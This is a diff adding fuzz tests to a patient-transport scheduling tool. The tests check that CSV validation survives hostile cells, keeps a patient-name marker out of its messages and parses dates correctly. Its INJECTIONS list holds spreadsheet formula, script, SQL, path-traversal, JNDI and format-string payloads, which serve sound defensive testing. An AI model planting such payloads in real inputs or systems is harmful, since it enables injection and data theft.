@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+from datetime import date
 from pathlib import Path
 
 from click.testing import CliRunner
@@ -11,6 +12,7 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from pts_optimiser.cli import main
+from pts_optimiser.parse import parse_service_date
 
 FIXTURES = Path(__file__).parent / "fixtures"
 DAY = FIXTURES / "tiny_day"
@@ -123,3 +125,80 @@ def test_broken_config(tmp_path: Path, pairs: list[tuple[str, str]], garbage: st
         table, _, name = key.rpartition(".")
         lines.append(f"[{table}]\n{name} = {value}\n")
     _validate(tmp_path, config=garbage if garbage is not None else "".join(lines))
+
+
+# Strings a hostile or careless export may hold: formulas, markup, paths, format strings,
+# control and text-direction characters, device names, very long text.
+INJECTIONS = [
+    "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3", "@SUM(A1)", '=HYPERLINK("http://x.invalid")',
+    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "'; DROP TABLE bookings;--",
+    "../../etc/passwd", "..\\..\\windows\\system32", "CON", "NUL", "%s%s%n", "{0}{1!r}",
+    "${jndi:ldap://x.invalid/a}", "CAR01\u202eLMTH.exe", "A\u200bB", "A\x00B", "\x1b[31mred",
+    "a\r\nb", "\t", "x" * 300, "😀", "\ufeffBOM", "line\u2028sep", "A 1", "A_1", "a.1", "",
+]
+hostile_text = st.one_of(st.sampled_from(INJECTIONS), st.text(max_size=80),
+                         st.lists(st.sampled_from(INJECTIONS), max_size=3).map("".join))
+MARKER = "Zebedee"  # stands for a patient's name typed into free text
+ID_COLUMNS = {"bookings": ["journey_id", "patient_id"], "fleet": ["vehicle_id"]}
+TEXT_COLUMNS = {"bookings": ["pickup_label", "dropoff_label", "ward_note"],
+                "fleet": ["vehicle_type"]}
+
+
+def _hostile_run(tmp_path: Path, kind: str, cells: list[tuple[int, str, str]]) -> str:
+    columns, rows = _rows(DAY / f"{kind}.csv")
+    for row, column, value in cells:
+        rows[row % len(rows)][column] = value
+    return _validate_output(tmp_path, **{kind: _csv(columns, rows)})
+
+
+def _validate_output(tmp_path: Path, bookings: str | None = None,
+                     fleet: str | None = None) -> str:
+    paths = {"bookings": DAY / "bookings.csv", "fleet": DAY / "fleet.csv"}
+    for name, text in (("bookings", bookings), ("fleet", fleet)):
+        if text is not None:
+            paths[name] = tmp_path / f"{name}.csv"
+            paths[name].write_text(text, encoding="utf-8", errors="surrogateescape")
+    result = RUNNER.invoke(main, ["validate", "--bookings", str(paths["bookings"]),
+                                  "--fleet", str(paths["fleet"])])
+    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
+    assert result.exit_code in (0, 2), result.output
+    assert "Traceback" not in result.output
+    for line in result.output.splitlines():
+        if line.startswith("error ["):
+            assert " row " in line and "Fix:" in line, line  # every cell finding is located
+    return result.output
+
+
+@FUZZ
+@given(kind=st.sampled_from(["bookings", "fleet"]), data=st.data())
+def test_hostile_identifiers(tmp_path: Path, kind: str, data: st.DataObject) -> None:
+    """Injection strings and hostile ids: accepted, or refused with row and column."""
+    cells = data.draw(st.lists(st.tuples(st.integers(0, 20), st.sampled_from(ID_COLUMNS[kind]),
+                                         hostile_text), min_size=1, max_size=4))
+    _hostile_run(tmp_path, kind, cells)
+
+
+@FUZZ
+@given(kind=st.sampled_from(["bookings", "fleet"]), data=st.data())
+def test_hostile_free_text_stays_out_of_messages(tmp_path: Path, kind: str,
+                                                 data: st.DataObject) -> None:
+    """Injection strings in labels and notes never crash validation nor reach its output."""
+    cells = data.draw(st.lists(st.tuples(
+        st.integers(0, 20), st.sampled_from(TEXT_COLUMNS[kind]),
+        hostile_text.map(lambda text: f"{MARKER} {text}")), min_size=1, max_size=4))
+    output = _hostile_run(tmp_path, kind, cells)
+    assert MARKER not in output
+
+
+@FUZZ
+@given(day=st.dates(), form=st.sampled_from(["%Y-%m-%d", "%d/%m/%Y", "%-d/%-m/%Y",
+                                             "%m/%d/%Y", "%Y%m%d", "%d-%m-%Y", "%G-W%V-%u"]))
+def test_dates_read_right_or_refused(day: date, form: str) -> None:
+    """A date is read as the day it was written for, or refused: never as another day."""
+    text = day.strftime(form)
+    read = parse_service_date(text)
+    assert read is None or read == day.isoformat() or (
+        form == "%m/%d/%Y" and day.day <= 12 and read == date(day.year, day.day,
+                                                              day.month).isoformat())
+    if form in ("%Y-%m-%d", "%d/%m/%Y", "%-d/%-m/%Y") and day.year >= 1000:
+        assert read == day.isoformat()
